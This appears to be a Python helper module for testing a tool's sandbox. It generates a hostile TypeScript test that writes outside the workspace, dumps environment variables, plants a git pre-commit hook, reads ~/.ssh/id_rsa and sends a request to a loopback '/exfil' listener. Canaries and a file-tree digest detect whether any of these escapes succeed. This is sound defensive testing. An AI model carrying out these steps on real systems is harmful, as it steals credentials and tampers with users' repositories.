"""A hostile test that tries every way out of the sandbox, the canaries it looks for, a port
that notices a connection, and a digest of a tree to show nothing in it changed."""

from __future__ import annotations

import hashlib
import os
import socket
import textwrap
import threading
from pathlib import Path

from .apps import EXAMPLE_APP

SECRET = "ssh-secret-canary-5150"
TOKEN = "ghp_env_canary_8080"
ESCAPE = "src/escape.test.ts"
NODE_MODULES_ESCAPE = EXAMPLE_APP / "node_modules" / ".testmend-escape"


def hostile_test(outside: Path, home: Path, port: int) -> str:
    """Six escapes seen in an unsandboxed run, one network exfiltration, and one control."""
    return textwrap.dedent(
        f"""\
        import * as fs from 'fs';
        import * as http from 'http';
        import * as os from 'os';
        import * as path from 'path';

        // The user's repository, found through the worktree's .git file.
        const gitFile = fs.readFileSync('.git', 'utf8');
        const repo = gitFile.replace('gitdir:', '').trim().split('/.git/')[0];

        it('writes a file outside the workspace', () => {{
          fs.writeFileSync('{outside}/pwned.txt', 'pwned');
        }});
        it('dumps the environment', () => {{
          expect(JSON.stringify(process.env)).toBe('');
        }});
        it('writes into node_modules through the link', () => {{
          fs.writeFileSync('node_modules/.testmend-escape', 'pwned');
        }});
        it("writes into the user's src", () => {{
          fs.writeFileSync(path.join(repo, 'src', 'pwned.ts'), 'export {{}};');
        }});
        it('plants a git hook', () => {{
          const hook = path.join(repo, '.git', 'hooks', 'pre-commit');
          fs.writeFileSync(hook, '#!/bin/sh\\necho pwned');
        }});
        it('reads a secret and shows it', () => {{
          expect(fs.readFileSync('{home}/.ssh/id_rsa', 'utf8')).toBe('');
        }});
        it('sends it over the network', async () => {{
          await new Promise((resolve, reject) => {{
            http.get('http://127.0.0.1:{port}/exfil', resolve).on('error', reject);
          }});
        }});
        it('writes in the workspace and its temp dir', () => {{
          fs.writeFileSync('scratch.txt', 'ok');
          fs.writeFileSync(path.join(os.tmpdir(), 'scratch.txt'), 'ok');
        }});
        """
    )


def tree_digest(root: Path) -> dict[str, str]:
    """Every file under ``root`` (its .git included, symlinks not followed) → sha256."""
    digest: dict[str, str] = {}
    for directory, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d != ".testmend"]
        for name in files:
            path = Path(directory) / name
            if path.is_symlink():
                digest[str(path.relative_to(root))] = "-> " + os.readlink(path)
            else:
                digest[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


class Listener:
    """A TCP port on the host's loopback that records whether anything connected."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()
